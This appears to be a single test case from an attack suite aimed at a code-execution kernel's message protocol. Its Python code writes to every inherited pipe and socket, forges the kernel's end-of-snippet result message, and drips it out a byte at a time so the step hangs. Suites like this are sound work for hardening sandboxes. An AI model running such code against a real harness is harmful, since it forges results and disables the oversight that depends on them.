# id: 424
# name: half_a_frame_at_a_time
# category: protocol
# technique: a byte now and then, so that each read succeeds
# breach: hang
# looks_like: a deadline for each read, and none for the step
# baseline: credulous
import os, stat


def spray(data):
    """To whatever leads out of this process."""
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass


def message(text, *blobs):
    header = text.encode()
    return len(header).to_bytes(4, 'big') + header + b''.join(blobs)


def done(value, *blobs):
    """The end of this snippet, forged, with a value in the kernel's own notation."""
    sizes = ',"blobs":%s' % [len(blob) for blob in blobs] if blobs else ''
    return message(RESULT_TMPL.replace('@@', value)[:-1] + sizes + '}', *blobs)


import time

whole = message(RESULT_TMPL.replace('@@', '1'))
began = time.time()
for place in range(len(whole) - 1):
    spray(whole[place:place + 1])
    time.sleep(0.4)
